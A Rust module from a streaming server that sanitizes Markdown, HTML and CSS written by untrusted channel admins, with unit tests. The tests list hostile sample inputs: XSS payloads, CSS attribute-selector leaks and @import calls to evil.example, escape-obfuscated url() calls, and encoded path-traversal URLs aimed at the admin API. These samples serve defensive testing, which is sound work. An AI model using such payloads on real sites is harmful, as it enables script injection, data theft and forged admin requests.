//! Owner-written content: Markdown rendering (offline message, extra page content), and the
//! confinement of what a channel admin writes.
//!
//! The default channel's admin is the server admin, who is trusted (and may add custom JavaScript):
//! there [`to_html`] keeps inline HTML, as Owncast does. Any other channel's admin is a tenant, trusted
//! by nobody else (not the server admin, not other channels' viewers), and what they write is served
//! confined ([`to_safe_html`], [`sanitize_html`], [`confine_css`]): it may show, never act.
//!
//! * HTML goes through an allow-list (ammonia's default tags and attributes): no `script`, `style`,
//!   `iframe`, `object`, `embed`, `form`, `base`, `meta` or `link` survives, no event handler or
//!   `style` attribute (but a Markdown table cell's `text-align`), no `id` (no DOM clobbering), and
//!   URLs only `http`, `https`, `mailto` or relative. A URL that reaches castd's admin API
//!   (`/api/admin/...`, `/c/{slug}/api/admin/...`) once percent-decoded, read with backslashes as
//!   slashes and resolved is dropped: an image or link there would be a request in the name of a
//!   server or channel admin whose browser holds the credentials.
//! * CSS may not load anything from elsewhere or reach script: escapes are decoded first (so `u\72l(`
//!   is seen as `url(`) and comments dropped; `@import` becomes an unknown at-rule, `url(...)` becomes
//!   `none` unless it names one of the channel's own uploads (`{base}/logo`, `{base}/public/...`), the
//!   functions that take a URL as a string (`image-set`, `image`, `src`, `cross-fade`, `element`) and
//!   `expression()` are renamed (the declaration is then invalid and dropped), as are `behavior` and
//!   `-moz-binding`; every `<` becomes the escape `\3c ` (no `</style>` breakout wherever it is put).
//!
//! Chat messages from viewers go through the chat module's own sanitizer instead.

use std::borrow::Cow;
use std::sync::OnceLock;

use pulldown_cmark::{html, Options, Parser};

/// Render CommonMark (with tables, strikethrough and task lists) to HTML.
pub fn to_html(src: &str) -> String {
    let opts = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut out = String::with_capacity(src.len() + src.len() / 4);
    html::push_html(&mut out, Parser::new_ext(src, opts));
    out
}

/// A channel admin's Markdown rendered and confined ([`to_html`], then [`sanitize_html`]).
pub fn to_safe_html(src: &str) -> String {
    sanitize_html(&to_html(src))
}

fn cleaner() -> &'static ammonia::Builder<'static> {
    static CLEANER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    CLEANER.get_or_init(|| {
        let mut b = ammonia::Builder::default();
        b.url_schemes(["http", "https", "mailto"].into_iter().collect())
            .url_relative(ammonia::UrlRelative::PassThrough)
            .link_rel(Some("noopener noreferrer"))
            // Markdown's task lists and aligned table cells.
            .add_tags(["input"])
            .add_tag_attributes("input", ["type", "checked", "disabled"])
            .add_tag_attributes("th", ["style"])
            .add_tag_attributes("td", ["style"])
            .attribute_filter(filter_attribute);
        b
    })
}

fn filter_attribute<'u>(element: &str, attribute: &str, value: &'u str) -> Option<Cow<'u, str>> {
    match (element, attribute) {
        (_, "href" | "src" | "cite" | "srcset" | "longdesc" | "usemap" | "action" | "formaction")
            if reaches_admin_api(value) =>
        {
            None
        }
        ("input", "type") => (value.eq_ignore_ascii_case("checkbox")).then_some(Cow::Borrowed(value)),
        ("th" | "td", "style") => {
            let v = value.trim().trim_end_matches(';').trim();
            matches!(v, "text-align: left" | "text-align: center" | "text-align: right").then_some(Cow::Borrowed(value))
        }
        _ => Some(Cow::Borrowed(value)),
    }
}

/// A channel admin's HTML (or rendered Markdown), confined (see the module doc).
pub fn sanitize_html(html: &str) -> String {
    cleaner().clean(html).to_string()
}

/// Whether the URL `raw` leads to castd's admin API (`/api/admin/...` or a channel's
/// `/c/{slug}/api/admin/...`), however it is written: percent-decoded until nothing changes (one that
/// still changes after four rounds counts as yes), backslashes read as slashes, case ignored, repeated
/// slashes collapsed, and resolved as a browser resolves it from any page of castd (dot segments).
pub fn reaches_admin_api(raw: &str) -> bool {
    let mut decoded = raw.trim().to_string();
    let mut settled = false;
    for _ in 0..4 {
        let next = percent_encoding::percent_decode_str(&decoded).decode_utf8_lossy().into_owned();
        if next == decoded {
            settled = true;
            break;
        }
        decoded = next;
    }
    if !settled {
        return true;
    }
    // Browsers drop tabs and newlines inside URLs; a backslash is a slash in http(s) URLs.
    let text: String = decoded
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .map(|c| if c == '\\' { '/' } else { c.to_ascii_lowercase() })
        .collect();
    // Empty and `.` segments dropped, `..` resolved: what is left holds `api/admin` if the URL does.
    let mut segments: Vec<&str> = Vec::new();
    for seg in text.split(['/', '?', '#']) {
        match seg {
            "" | "." => {}
            ".." => {
                segments.pop();
            }
            s => segments.push(s),
        }
    }
    segments.windows(2).any(|w| w[0] == "api" && w[1] == "admin")
}

/// The CSS functions that load what they are given as a string, and the script-running ones: renamed.
const BLOCKED_FUNCTIONS: &[&str] = &[
    "image-set",
    "-webkit-image-set",
    "image",
    "src",
    "cross-fade",
    "-webkit-cross-fade",
    "element",
    "-moz-element",
    "expression",
    "paint",
];

/// The properties that bind script (old IE and Firefox): renamed.
const BLOCKED_PROPERTIES: &[&str] = &["behavior", "-ms-behavior", "-moz-binding", "binding"];

/// A channel admin's CSS (custom styles, an appearance variable's value), confined (see the module
/// doc). `base` is the channel's base path (`/c/{slug}`): `url()` may name its own logo or public files.
pub fn confine_css(css: &str, base: &str) -> String {
    let plain = decode_css(css);
    let chars: Vec<char> = plain.chars().collect();
    let mut out = String::with_capacity(plain.len());
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '"' || c == '\'' {
            // A string, copied as it is (escapes are canonical, `<` already escaped).
            let end = string_end(&chars, i);
            out.extend(&chars[i..end]);
            i = end;
            continue;
        }
        if c == '@' {
            let (name, end) = ident(&chars, i + 1);
            if name.eq_ignore_ascii_case("import") {
                out.push_str("@blocked-import");
            } else {
                out.push('@');
                out.push_str(&name);
            }
            i = end;
            continue;
        }
        if is_ident_char(c) {
            let (name, end) = ident(&chars, i);
            let lower = name.to_ascii_lowercase();
            if chars.get(end) == Some(&'(') {
                if lower == "url" {
                    let (kept, after) = url_function(&chars, end + 1, base);
                    out.push_str(&kept);
                    i = after;
                    continue;
                }
                if BLOCKED_FUNCTIONS.contains(&lower.as_str()) {
                    out.push_str("blocked-");
                }
            } else if BLOCKED_PROPERTIES.contains(&lower.as_str()) {
                out.push_str("blocked-");
            }
            out.push_str(&name);
            i = end;
            continue;
        }
        out.push(c);
        i += 1;
    }
    out
}

fn is_ident_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '-' || c == '_' || !c.is_ascii()
}

/// The identifier starting at `from` and where it ends (escapes are already canonical `\hex `, kept).
fn ident(chars: &[char], from: usize) -> (String, usize) {
    let mut end = from;
    let mut name = String::new();
    while end < chars.len() {
        let c = chars[end];
        if is_ident_char(c) {
            name.push(c);
            end += 1;
        } else if c == '\\' {
            // A canonical escape: `\` hex digits and one space.
            name.push(c);
            end += 1;
            while end < chars.len() && chars[end] != ' ' {
                name.push(chars[end]);
                end += 1;
            }
            if end < chars.len() {
                name.push(' ');
                end += 1;
            }
        } else {
            break;
        }
    }
    (name, end)
}

/// Where the string starting at `from` (its quote) ends: after its closing quote, at a newline (a bad
/// string ends there), or at the end.
fn string_end(chars: &[char], from: usize) -> usize {
    let quote = chars[from];
    let mut i = from + 1;
    while i < chars.len() {
        match chars[i] {
            c if c == quote => return i + 1,
            '\n' => return i,
            '\\' => {
                // A canonical escape: skip to its space.
                while i < chars.len() && chars[i] != ' ' {
                    i += 1;
                }
                i += 1;
            }
            _ => i += 1,
        }
    }
    chars.len()
}

/// `url(` ... `)` whose contents start at `from`: kept (as `url("path")`) when it names one of the
/// channel's own uploads, else `none`; and where it ends.
fn url_function(chars: &[char], from: usize, base: &str) -> (String, usize) {
    let mut i = from;
    while i < chars.len() && chars[i].is_whitespace() {
        i += 1;
    }
    let target: String;
    if i < chars.len() && (chars[i] == '"' || chars[i] == '\'') {
        let end = string_end(chars, i);
        let inner_end = if end > i + 1 && chars.get(end - 1) == Some(&chars[i]) { end - 1 } else { end };
        target = chars[i + 1..inner_end.max(i + 1)].iter().collect();
        i = end;
    } else {
        let start = i;
        while i < chars.len() && chars[i] != ')' && !chars[i].is_whitespace() {
            i += 1;
        }
        target = chars[start..i].iter().collect();
    }
    while i < chars.len() && chars[i].is_whitespace() {
        i += 1;
    }
    let closed = chars.get(i) == Some(&')');
    // Anything else up to the closing parenthesis is part of the (now invalid) function.
    while i < chars.len() && chars[i] != ')' {
        i += 1;
    }
    let end = (i + 1).min(chars.len());
    if closed && own_upload(&target, base) {
        (format!("url(\"{target}\")"), end)
    } else {
        ("none".to_string(), end)
    }
}

/// Whether `path` is one of the channel's own uploads under `base`: `{base}/logo` or
/// `{base}/public/<plain names>`.
fn own_upload(path: &str, base: &str) -> bool {
    let Some(rest) = path.strip_prefix(base) else { return false };
    if rest == "/logo" {
        return true;
    }
    let Some(file) = rest.strip_prefix("/public/") else { return false };
    !file.is_empty()
        && file.split('/').all(|seg| !seg.is_empty() && !seg.starts_with('.'))
        && file.chars().all(|c| c.is_ascii_alphanumeric() || "._-/".contains(c))
}

/// `css` with its comments dropped, every escape decoded (letters, `-` and `_` written plainly, any
/// other character as the canonical escape `\<hex> `), and every `<` as `\3c `.
fn decode_css(css: &str) -> String {
    let chars: Vec<char> = css.chars().collect();
    let mut out = String::with_capacity(css.len());
    let mut quote: Option<char> = None;
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '/' if quote.is_none() && chars.get(i + 1) == Some(&'*') => {
                let mut j = i + 2;
                while j < chars.len() && !(chars[j] == '*' && chars.get(j + 1) == Some(&'/')) {
                    j += 1;
                }
                out.push(' ');
                i = (j + 2).min(chars.len());
            }
            '\\' => {
                let (decoded, next) = escape(&chars, i + 1);
                match decoded {
                    Some(d) if d.is_ascii_alphabetic() || d == '-' || d == '_' => out.push(d),
                    Some(d) => {
                        out.push_str(&format!("\\{:x} ", d as u32));
                    }
                    None => {}
                }
                i = next;
            }
            '<' => {
                out.push_str("\\3c ");
                i += 1;
            }
            '"' | '\'' => {
                match quote {
                    None => quote = Some(c),
                    Some(q) if q == c => quote = None,
                    Some(_) => {}
                }
                out.push(c);
                i += 1;
            }
            '\n' => {
                // A newline ends a string (a bad one).
                quote = None;
                out.push(c);
                i += 1;
            }
            _ => {
                out.push(c);
                i += 1;
            }
        }
    }
    out
}

/// The character an escape whose body starts at `from` (after the `\`) stands for, and where it ends;
/// `None` for a `\` before a newline or at the end (nothing is written).
fn escape(chars: &[char], from: usize) -> (Option<char>, usize) {
    let Some(&first) = chars.get(from) else { return (None, from) };
    if first == '\n' || first == '\r' || first == '\x0c' {
        return (None, from + 1);
    }
    if !first.is_ascii_hexdigit() {
        return (Some(first), from + 1);
    }
    let mut end = from;
    while end < chars.len() && end - from < 6 && chars[end].is_ascii_hexdigit() {
        end += 1;
    }
    let hex: String = chars[from..end].iter().collect();
    let cp = u32::from_str_radix(&hex, 16).unwrap_or(0xFFFD);
    let c = match char::from_u32(cp) {
        Some('\0') | None => '\u{FFFD}',
        Some(c) => c,
    };
    if let Some(&ws) = chars.get(end) {
        if ws == ' ' || ws == '\t' || ws == '\n' {
            end += 1;
        } else if ws == '\r' {
            end += if chars.get(end + 1) == Some(&'\n') { 2 } else { 1 };
        }
    }
    (Some(c), end)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders() {
        assert_eq!(to_html("**hi**").trim(), "<p><strong>hi</strong></p>");
        assert_eq!(to_html(""), "");
    }

    #[test]
    fn safe_html_keeps_markdown_and_drops_what_acts() {
        assert_eq!(to_safe_html("**back soon**").trim(), "<p><strong>back soon</strong></p>");
        assert_eq!(to_safe_html("# Hello"), "<h1>Hello</h1>\n");
        assert!(to_safe_html("| a |\n|:-:|\n| b |").contains(r#"<th style="text-align: center">"#));
        assert!(to_safe_html("- [x] done").contains(r#"type="checkbox""#));
        let hostile = concat!(
            "<script>alert(1)</script><img src=x onerror=alert(1)><a href=\"javascript:alert(1)\">j</a>",
            "<a href=\"data:text/html,x\">d</a><form action=/api/admin/config/adminpass><button>b</button></form>",
            "<iframe src=/admin/></iframe><object data=x></object><embed src=x><base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\"><link rel=stylesheet href=//evil.example/x.css>",
            "<style>body{}</style><p style=\"color:red\" id=config>ok</p><svg><script>1</script></svg>",
        );
        let out = sanitize_html(hostile);
        for bad in [
            "<script",
            "onerror",
            "javascript:",
            "data:",
            "<form",
            "<iframe",
            "<object",
            "<embed",
            "<base",
            "<meta",
            "<link",
            "<style",
            "style=",
            "id=",
            "<svg",
        ] {
            assert!(!out.to_ascii_lowercase().contains(bad), "{bad} survived: {out}");
        }
        assert!(out.contains("<p>ok</p>"), "{out}");
    }

    #[test]
    fn urls_to_the_admin_api_are_dropped_however_written() {
        for url in [
            "/api/admin/disconnect",
            "/c/other/api/admin/config/adminpass",
            "/API/Admin/x",
            "/%61pi/admin/x",
            "/%2561pi%252fadmin/x",
            "/img/emoji/%2e%2e/%2e%2e/api/admin/disconnect",
            "/img/emoji/../../api/./admin/x",
            "\\api\\admin\\x",
            "//api//admin",
            "http://127.0.0.1:8080/api/admin/status",
            "api/admin/x",
            "../api/admin/x",
            "/api/\tadmin/x",
            "/api/ad%0amin/x",
        ] {
            assert!(reaches_admin_api(url), "{url}");
            assert!(!sanitize_html(&format!("<img src=\"{url}\"><a href=\"{url}\">l</a>")).contains("src="), "{url}");
        }
        for url in ["/logo", "https://example.com/a.png", "/c/x/public/a.png", "/api/config", "mailto:a@b.example"] {
            assert!(!reaches_admin_api(url), "{url}");
        }
    }

    #[test]
    fn css_loads_nothing_from_elsewhere() {
        let base = "/c/music";
        assert_eq!(confine_css("body{color:red}", base), "body{color:red}");
        assert_eq!(confine_css("a::before{content:\"\\201C url(x)\"}", base), "a::before{content:\"\\201c url(x)\"}");
        let cases = [
            "@import url(https://evil.example/x.css);",
            "@import 'https://evil.example/x.css';",
            "@\\69mport 'x';",
            "body{background:url(https://evil.example/t)}",
            "body{background:URL( 'https://evil.example/t' )}",
            "body{background:u\\72l(https://evil.example/t)}",
            "body{background:\\75 \\72 \\6c (https://evil.example/t)}",
            "body{background:ur/**/l(x)}",
            "input[value^=a]{background-image:image-set(\"https://evil.example/a\" 1x)}",
            "@font-face{font-family:x;src:url(//evil.example/f.woff)}",
            "body{width:expression(alert(1))}",
            "body{behavior:url(x.htc);-moz-binding:url(x.xml#x)}",
            "</style><script>alert(1)</script>",
            "body{background:url(/c/other/public/a.png)}",
            "body{background:url(/c/music/public/../../../api/admin/disconnect)}",
        ];
        for css in cases {
            let out = confine_css(css, base).to_ascii_lowercase();
            for bad in ["@import", "url(", "image-set(", "expression(", "<"] {
                // Only renamed ones (`blocked-image-set(`) are left.
                let live = out.match_indices(bad).any(|(i, _)| {
                    let before = &out[..i];
                    !before.trim_end_matches("-webkit-").ends_with("blocked-") && !before.ends_with("blocked-")
                });
                assert!(!live, "{css} -> {out}");
            }
        }
        assert_eq!(
            confine_css("body{behavior:url(x.htc);-moz-binding:url(x.xml#x)}", base),
            "body{blocked-behavior:none;blocked--moz-binding:none}"
        );
        assert_eq!(
            confine_css("body{background:url(/c/music/public/bg.png)} h1{background:url('/c/music/logo')}", base),
            "body{background:url(\"/c/music/public/bg.png\")} h1{background:url(\"/c/music/logo\")}"
        );
    }
}
